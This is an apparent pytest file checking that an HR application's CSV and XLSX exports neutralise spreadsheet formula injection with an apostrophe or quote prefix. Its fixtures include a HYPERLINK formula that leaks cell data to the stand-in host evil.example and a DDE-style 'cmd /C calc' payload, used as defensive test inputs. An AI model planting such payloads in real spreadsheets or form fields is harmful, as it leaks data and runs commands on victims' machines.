"""Formula injection (OWASP "CSV injection"): every CSV and XLSX export keeps typed text as text."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.spreadsheets import csv_text, xlsx_bytes

pytest_plugins = ["tests.interviews_fixtures"]
ROOT = Path(__file__).resolve().parent.parent
PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")'
RISKY = [PAYLOAD, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"]


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("value", RISKY)
def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(value):
    rows = _csv_rows(csv_text(["notes"], [[value]]))
    assert rows[1] == ["'" + value]


def test_csv_keeps_numbers_and_plain_text_as_they_are():
    rows = _csv_rows(csv_text(["a", "b", "c", "d"], [[-3, 2.5, "平稳", None]]))
    assert rows[1] == ["-3", "2.5", "平稳", ""]


def test_xlsx_cells_that_start_like_a_formula_are_text_with_the_quote_prefix():
    body = xlsx_bytes([("t", ["notes", "n"], [[v, -1] for v in RISKY], PAYLOAD)])
    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # not one formula in the file
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [sheet.cell(row=r, column=1) for r in range(1, sheet.max_row + 1)]
    assert cells[0].value == PAYLOAD and cells[0].quotePrefix  # the note
    for cell, value in zip(cells[2:], RISKY, strict=True):
        assert cell.data_type == "s" and cell.quotePrefix and cell.value == value
    assert sheet.cell(row=3, column=2).value == -1  # numbers stay numbers


def test_interview_export_neutralises_the_confidential_notes(session, client, login, interview_case,
                                                             people):
    from app.modules.interviews.models import ExitInterview

    session.add(ExitInterview(case_id=interview_case.id, status="held", answers=[],
                              confidential_notes=PAYLOAD, primary_reason="-cmd|' /C calc'!A0"))
    session.flush()
    login("hr")
    response = client.get("/interviews/export.csv")
    assert response.status_code == 200
    header, row = _csv_rows(response.get_data(as_text=True))[:2]
    record = dict(zip(header, row, strict=True))
    assert record["confidential_notes"] == "'" + PAYLOAD
    assert record["primary_reason"] == "'-cmd|' /C calc'!A0"


@pytest.fixture
def company_with_a_formula_department(session):
    from app.modules.analytics.synthetic import generate_company
    from app.modules.employees.models import Department

    generate_company(session, employees=60, start=date(2022, 1, 1), end=date(2023, 12, 31), seed=5)
    for number, department in enumerate(session.query(Department).all()):
        department.code = f"=CMD({number})"  # the export groups by the code
    session.flush()


def test_analytics_exports_neutralise_department_names(client, login, make_user,
                                                        company_with_a_formula_department):
    login(make_user(roles=("hr",)).username)
    query = "start=2023-01&end=2023-12&group_by=department"
    rows = _csv_rows(client.get(f"/analytics/export.csv?{query}").get_data(as_text=True))
    groups = {row[1] for row in rows[2:]}
    assert groups and all(re.fullmatch(r"'=CMD\(\d+\)", g) for g in groups)
    body = client.get(f"/analytics/export.xlsx?{query}").data
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(body)).active
    names = sheet["B"][2:]
    assert names and all(c.value.startswith("=CMD(") and c.data_type == "s" and c.quotePrefix
                         for c in names)


def test_every_export_goes_through_the_one_helper():
    """A new export written with csv.writer or openpyxl directly would skip the neutralising."""
    offenders = []
    for path in (ROOT / "app").rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "app":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)|\bopenpyxl\b|\bxlsxwriter\b", source):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
